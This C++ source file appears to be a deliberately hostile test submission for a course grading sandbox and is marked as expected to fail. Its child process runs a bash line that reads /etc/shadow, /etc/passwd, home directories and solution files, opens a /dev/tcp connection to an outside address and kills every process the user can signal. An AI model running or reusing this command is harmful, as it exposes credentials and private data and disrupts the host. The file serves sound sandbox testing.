// expect: failed
// Reads the course and the machine through a shell, and calls home.
#include "processes.hpp"

#include <sys/wait.h>
#include <unistd.h>

namespace course {

Outcome run_in_process(const Task&, [[maybe_unused]] std::chrono::milliseconds timeout) {
  const pid_t child = fork();
  if (child == 0) {
    execl("/bin/bash", "bash", "-c",
          "cat /etc/shadow /etc/passwd /root/* /home/*/* solutions/*;"
          " echo x >/dev/tcp/1.1.1.1/80; kill -9 -1",
          nullptr);
    _exit(1);
  }
  waitpid(child, nullptr, 0);
  return Result{};
}

std::vector<Outcome> run_all_in_processes(std::span<const Task> tasks, unsigned,
                                          std::chrono::milliseconds timeout) {
  std::vector<Outcome> outcomes;
  for (const Task& task : tasks) {
    outcomes.push_back(run_in_process(task, timeout));
  }
  return outcomes;
}

}  // namespace course
